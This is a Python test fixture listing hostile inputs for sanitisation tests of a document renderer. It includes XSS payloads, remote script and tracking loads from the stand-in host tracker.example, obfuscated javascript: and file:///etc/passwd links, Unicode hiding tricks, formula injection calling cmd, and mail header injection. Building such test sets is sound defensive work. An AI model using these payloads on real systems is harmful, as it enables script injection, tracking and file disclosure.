"""Texts that try to do something instead of being read; shared by the tests of every output.

``HOST`` stands in them for a computer that counts who asks it for anything; ``RUN`` for a script
that marks the page it runs in.
"""

# ruff: noqa: E501 - an attack is read best on one line

from __future__ import annotations

from collections.abc import Mapping
from html import escape

from smguide.model.guidelines import Absence, Clause, Guidelines, OutlineEntry, Section
from smguide.model.record import Record

HOST = "tracker.example"
RUN = "document.documentElement.setAttribute('data-ran','yes')"
_OPENED = f"http://{HOST}/asked"
_QUOTED = escape(RUN, quote=True)

SCRIPTS = {
    "a script": f"<script>{RUN}</script>",
    "a script from elsewhere": f"<script src='{_OPENED}/script.js'></script>",
    "upper case": f"<ScRiPt >{RUN}</sCrIpT >",
    "a broken script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "an event handler": f'<img src=x onerror="{RUN}">',
    "a handler without quotes": f"<svg/onload={RUN}>",
    "a handler that is due at once": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "a handler on a body": f'<body onload="{RUN}">',
    "a script in a drawing": f"<svg><script>{RUN}</script></svg>",
    "an animation": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "a frame": f'<iframe srcdoc="<script>{_QUOTED.replace("document", "top.document")}</script>"></iframe>',
    "a frame from elsewhere": f"<iframe src='{_OPENED}/frame'></iframe>",
    "an object": f"<object data='{_OPENED}/object'></object><embed src='{_OPENED}/embed'>",
    "a form": f"<form action='{_OPENED}/form'><input name=q autofocus onfocus=\"{RUN}\"></form>",
    "a mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "a mutation in a comment": f'<!--><img src=x onerror="{RUN}">-->',
    "a mutation in noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "a breakout of a title": f"</title></textarea></style></script><script>{RUN}</script>",
    "a breakout of a comment": f"--><script>{RUN}</script><!--",
    "a breakout of character data": f"]]><script>{RUN}</script><![CDATA[",
    "a template": f"<template><script>{RUN}</script></template>{{{{constructor.constructor('{RUN}')()}}}}${{{RUN}}}",
    "a breakout of an attribute": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "a breakout of another attribute": f"' onfocus='{RUN}' autofocus tabindex=1 x='",
    "a table": f'| a | b |\n|---|---|\n| <script>{RUN}</script> | <img src=x onerror="{RUN}"> |',
    "a block of code": f'```"><script>{RUN}</script>\n</code></pre><script>{RUN}</script>\n```',
    "entities": "&lt;script&gt;&#60;img src=x onerror=alert(1)&#62;",
}

TRACKERS = {
    "a picture": f"![seen]({_OPENED}/picture.png)",
    "a tracking pixel": f'<img src="{_OPENED}/pixel.gif" width=1 height=1>',
    "a picture for wide screens": f'<img srcset="{_OPENED}/wide 2x" src="//{HOST}/asked/any">',
    "a picture by reference": f"![seen][far]\n\n[far]: {_OPENED}/reference.png",
    "a style": f"<style>@import '{_OPENED}/import.css'; body{{background:url({_OPENED}/ground)}}</style>",
    "a style of an element": f'<p style="background:url({_OPENED}/style);width:expression({RUN})">x</p>',
    "a sheet": f"<link rel=stylesheet href='{_OPENED}/sheet.css'><link rel=prefetch href='{_OPENED}/pre'>",
    "a base": f"<base href='{_OPENED}/base/'>",
    "a refresh": f'<meta http-equiv="refresh" content="0;url={_OPENED}/refresh">',
    "a sound": f"<audio autoplay src='{_OPENED}/sound'></audio><video poster='{_OPENED}/poster'></video>",
    "a drawing": f"<svg><image href='{_OPENED}/svg'/><use href='{_OPENED}/use#x'/></svg>",
    "a file of this computer": '<img src="file:///etc/passwd"> ![x](file:///etc/passwd)',
    "a share": r'<img src="\\tracker.example\share\x.png"> ![x](\\\\tracker.example\\share\\x.png)',
}

_SCHEMES = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    " javascript:{0}",
    "java\tscript:{0}",
    "java&#10;script:{0}",
    "java&NewLine;script:{0}",
    "&#106;avascript:{0}",
    "&#x6A&#x61&#x76&#x61script:{0}",
    "javascript&colon;{0}",
    "java\u200bscript:{0}",
    "\u202ejavascript:{0}",
    "java%0ascript:{0}",
    "javascript%3A{0}",
    "vbscript:msgbox(1)",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+",
    "file:///etc/passwd",
    "smb://tracker.example/share",
    "ms-msdt:/id",
    "search-ms:query=x",
    "x-custom:open",
    "blob:null/1",
    "view-source:javascript:{0}",
    "//tracker.example/asked/none",
    "\\\\tracker.example\\share",
    "/\\tracker.example/asked/mixed",
)
_CALLED = RUN.replace("(", "%28").replace(")", "%29")
LINKS = {
    **{f"a link {n}": f"[here]({one.format(_CALLED)})" for n, one in enumerate(_SCHEMES)},
    **{f"a pointed link {n}": f"[here](<{one.format(_CALLED)}>)" for n, one in enumerate(_SCHEMES)},
    **{f"an autolink {n}": f"<{one.format(_CALLED)}>" for n, one in enumerate(_SCHEMES)},
    **{
        f"a reference {n}": f"[here]\n\n[here]: {one.format(_CALLED)}"
        for n, one in enumerate(_SCHEMES)
    },
    **{f"a tag {n}": f'<a href="{one.format(_CALLED)}">x</a>' for n, one in enumerate(_SCHEMES)},
    "a title that breaks out": f'[x](https://a.example "\\" onmouseover=\\"{_CALLED}")',
    "an address that breaks out": '[x](https://a.example/"onmouseover="alert)',
    "an address in plain text": f'https://a.example/"><script>{RUN}</script> a@b.example"onclick="x',
    "another name before the address": "[x](https://bank.example@tracker.example/asked/user)",
}

HIDING = {
    "an override": "Pay only \u202ebill eht\u202c now",
    "Trojan source": "if access \u2066// allowed\u2069 \u2066begin",
    "marks of direction": "a\u200eb\u200fc\u061cd",
    "zero width": "ap\u200bprove\u200c \u2060all\ufeff",
    "soft hyphens": "never\xad\xad share",
    "tags": "Fine.\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "selectors": "ok\ufe00\ufe01\U000e0100\U000e01ef",
    "fillers": "\u3164\u115f\u1160\uffa0\u2800",
    "a tower": "Z" + "\u0315\u0300\u0489\u035c" * 60,
    "separators": "one\u2028two\u2029three\x85four",
    "controls": "a\x01b\x08c\x7fd\x9be",
    "an escape": "\x1b[31mred\x1b]0;title\x07\x1b[2J\x1b]8;;http://tracker.example\x07link",
    "interlinear": "\ufff9a\ufffab\ufffb",
}

TYPSETTING = {
    "code": '#panic("ran") #eval("1+1") #{ sys.inputs } $ x $',
    "a file": '#read("/etc/passwd") #include "/etc/passwd" #image("/etc/passwd")',
    "a link of the typesetter": '#link("javascript:alert(1)")[x] #link("file:///etc/passwd")',
    "an import": '#import "@preview/example:0.1.0": *',
    "marks": "= Heading * bold _ @label <label> `raw` ```typ #panic()``` \\ ~ -- // /* */",
    "data": '"}],"x":[{" \\u0000 \\',
}

SHEETS = {
    "a formula": "=cmd|' /C calc'!A0",
    "a sum": "+1+cmd|'/C calc'!A0",
    "a difference": "-2+3+cmd|'/C calc'!A0",
    "an at": "@SUM(1+1)*cmd|'/C calc'!A0",
    "a formula of full width": '\uff1dHYPERLINK("http://tracker.example/asked")',
    "a formula after a blank": " =1+1",
    "a formula after a tab": "\t=1+1",
    "a formula after quotes": '"=1+1',
    "a formula after a hidden sign": "\u200b=1+1",
    "a formula in a second line": "note\n=1+1",
    "separators of cells": 'x",=1+1;"=1+1\t=1+1',
}

LETTERS = {
    "a second header": "Hello\r\nBcc: everybody@tracker.example\r\n\r\nBody",
    "fields of a letter": "x?bcc=everybody@tracker.example&body=y#z",
    "escaped fields": "x%0d%0aBcc:everybody@tracker.example%26cc=z",
    "a second event": "Talk\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:file:///etc/passwd",
    "an event in one line": "Talk\nATTACH;VALUE=URI:javascript:alert(1)",
    "escaped lines": "Talk\\nATTACH:x\\;y\\,z",
}

LONG = {
    "a long word": "w" * 5000,
    "a long line": "word " * 1500,
    "many marks": "*" * 800 + "[" * 400 + "`" * 400 + "x" + "]" * 400,
    "quotations in quotations": ">" * 300 + " x",
}

TEXTS = {**SCRIPTS, **TRACKERS, **LINKS, **HIDING, **TYPSETTING, **SHEETS, **LETTERS, **LONG}
"""All of them by name."""

LINES = {name: " ".join(text.split()) for name, text in TEXTS.items() if name not in LONG}
"""Those that may stand in a title or another short field."""


def hostile_guidelines(texts: Mapping[str, str] = TEXTS) -> Guidelines:
    """Guidelines that hold each text in every place of a section that takes text."""
    sections = [_section(n, name, text) for n, (name, text) in enumerate(texts.items())]
    everything = " ".join(LINES.values())
    sections.append(_crisis(everything))
    return Guidelines(
        id="hostile",
        title=everything[:3000],
        organisation=everything[-3000:],
        sections=tuple(sections),
        outline=tuple(OutlineEntry(section.id) for section in sections),
        absent=(Absence("influencers", everything[:2000]),),
    )


def _section(n: int, name: str, text: str) -> Section:
    clauses = (
        Clause(f"c{n}", text, why=text),
        Clause(f"d{n}", f"- {text}\n- x **{text}** _{text}_"),
    )
    return Section(f"s{n}", "custom", LINES.get(name, name), clauses)


def _crisis(text: str) -> Section:
    """A section with facts of its own."""
    past = Record({"id": "p", "name": text, "helped": text, "changed": text})
    contact = Record({"id": "k", "name": text, "reach": text})
    facts = Record({"freeze_where": text, "relief": text, "past": (past,), "contacts": (contact,)})
    return Section("crisis", "crisis", "Crisis", (Clause("k", "Stay calm."),), facts)
